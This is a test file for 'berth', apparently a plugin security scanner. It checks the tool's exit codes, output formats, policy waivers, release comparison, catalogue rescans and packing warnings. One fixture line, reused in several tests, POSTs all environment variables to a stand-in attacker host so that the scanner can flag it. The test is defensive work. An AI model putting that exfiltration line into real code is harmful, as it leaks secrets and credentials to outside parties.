import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test, { after } from "node:test";

const berthFile = join(import.meta.dirname, "../../../bin/berth");
const folder = mkdtempSync(join(tmpdir(), "berth scan-"));
after(() => rmSync(folder, { recursive: true }));

function berth(...args: string[]): { status: number | null; stdout: string; stderr: string } {
  return spawnSync(berthFile, args, { cwd: folder, encoding: "utf8", shell: process.platform === "win32" });
}

const json = (...args: string[]): Record<string, unknown> =>
  JSON.parse(berth(...args, "--json").stdout) as Record<string, unknown>;

const HOSTILE = 'fetch("https://drop.example.invalid", { method: "POST", body: JSON.stringify(process.env) });';
writeFileSync(join(folder, "good.js"), "export const two = 2;\n");
writeFileSync(join(folder, "bad.js"), HOSTILE);

function plugin(path: string, code: string): void {
  mkdirSync(join(folder, path), { recursive: true });
  const manifest = {
    id: `acme.${path.split("/").at(-1)}`,
    version: "1.0.0",
    permissions: [{ name: "network_restricted", reason: "rows" }],
    runtime: { kind: "javascript", entry: "plugin.js" },
  };
  writeFileSync(join(folder, path, "manifest.json"), JSON.stringify(manifest));
  writeFileSync(join(folder, path, "plugin.js"), code);
}

test("the exit code is 0 whatever the verdict, unless --fail-on is met", () => {
  assert.equal(berth("scan", "bad.js").status, 0);
  assert.equal(berth("scan", "bad.js", "--fail-on", "block").status, 3);
  assert.equal(berth("scan", "good.js", "--fail-on", "review").status, 0);
  assert.equal(berth("scan").status, 2);
  assert.equal(berth("scan", "bad.js", "--fail-on", "never").status, 2);
  assert.equal(berth("scan", "missing.js").status, 3);
});

test("answers as text, JSON, SARIF and inventory", () => {
  assert.match(
    berth("scan", "bad.js").stdout,
    /^bad\.js {2}block {2}\d+\/100\n {2}critical bad\.js:1:1 {2}exfiltrates-private-data/u,
  );
  const { results } = json("scan", "good.js", "bad.js") as { results: { path: string; verdict: string }[] };
  assert.deepEqual(
    results.map(({ path, verdict }) => [path, verdict]),
    [
      ["good.js", "clean"],
      ["bad.js", "block"],
    ],
  );
  assert.equal(json("scan", "bad.js", "--format", "sarif")["version"], "2.1.0");
  assert.equal(json("scan", "bad.js", "--format", "sbom")["bomFormat"], "CycloneDX");
  assert.equal(berth("scan", "bad.js", "--format", "xml").status, 2);
});

test("a policy waives rules with a reason and maps verdicts; a profile passes or fails", () => {
  const rules = Object.fromEntries(
    ["exfiltrates-private-data"].map((rule) => [rule, { severity: "off", reason: "our own collector" }]),
  );
  writeFileSync(join(folder, "policy.json"), JSON.stringify({ rules, verdicts: { clean: "refuse" } }));
  writeFileSync(join(folder, "wrong.json"), JSON.stringify({ rules: { nonsense: { severity: "off", reason: "x" } } }));
  const run = berth("scan", "bad.js", "--policy", "policy.json");
  assert.match(run.stdout, /waived: our own collector/u);
  assert.equal(run.status, 3);
  assert.equal(berth("scan", "bad.js", "--policy", "wrong.json").status, 3);
  const profiled = berth("scan", "bad.js", "--profile", "baseline");
  assert.equal(profiled.status, 3);
  assert.match(
    profiled.stdout,
    /fails the profile baseline\n {2}exfiltration, because private data stays with its owner/u,
  );
  assert.equal(berth("scan", "good.js", "--profile", "baseline").status, 0);
});

test("a release is compared with the one before", () => {
  plugin("before", 'export default () => fetch("https://api.example.com/rows");');
  plugin("after", 'export default () => fetch("https://other.example.org/rows");');
  const { results } = json("scan", "after", "--previous", "before") as {
    results: { findings: { rule: string; message: string }[] }[];
  };
  const finding = results[0]?.findings.find(({ rule }) => rule === "differs-from-previous");
  assert.match(finding?.message ?? "", /contacts "other\.example\.org"/u);
});

test("a catalogue is scanned once, then only what changed, also after an interruption", () => {
  plugin("catalogue/calm", "export const two = 2;");
  plugin("catalogue/rough", HOSTILE);
  writeFileSync(join(folder, "catalogue/broken.berth"), "not a package");
  const scan = () =>
    json("scan", "--catalogue", "catalogue", "--state", "state.jsonl") as {
      results: { path: string; verdict: string }[];
      kept: number;
      refused: { path: string; code: string }[];
    };
  const first = scan();
  assert.deepEqual(
    first.results.map(({ path, verdict }) => [path, verdict]),
    [
      ["calm", "clean"],
      ["rough", "block"],
    ],
  );
  assert.equal(first.kept, 0);
  assert.deepEqual(
    first.refused.map(({ path }) => path),
    ["broken.berth"],
  );
  assert.equal(scan().kept, 2);
  plugin("catalogue/calm", "export const three = 3;");
  assert.equal(scan().kept, 1);
  // An interruption leaves a line that is cut off; what stands before it is kept.
  appendFileSync(join(folder, "state.jsonl"), '{"name":"rough","content":"sha');
  assert.equal(scan().kept, 2);
  // Results of another scanner count for nothing.
  const state = readFileSync(join(folder, "state.jsonl"), "utf8").replaceAll(
    /"scanner":"sha256:[0-9a-f]+"/g,
    '"scanner":"sha256:0"',
  );
  writeFileSync(join(folder, "state.jsonl"), state);
  assert.equal(scan().kept, 0);
  rmSync(join(folder, "catalogue/rough"), { recursive: true });
  assert.equal(scan().results.length, 1);
});

test("packing warns of what the scan finds, and packs all the same", () => {
  assert.equal(berth("create", "words", "--publisher", "acme").status, 0);
  assert.match(berth("pack", "words").stdout, /\n {2}scan {5}clean, 100 of 100\n/u);
  const source = join(folder, "words/src/plugin.ts");
  appendFileSync(source, `\n${HOSTILE.replace("process.env", "(globalThis as any).process.env")}\n`);
  const run = berth("pack", "words", "--out", "rough.berth");
  assert.equal(run.status, 0, run.stderr);
  assert.match(run.stdout, /\n {2}warning {2}critical: plugin\.js:\d+ This sends environment variables/u);
});
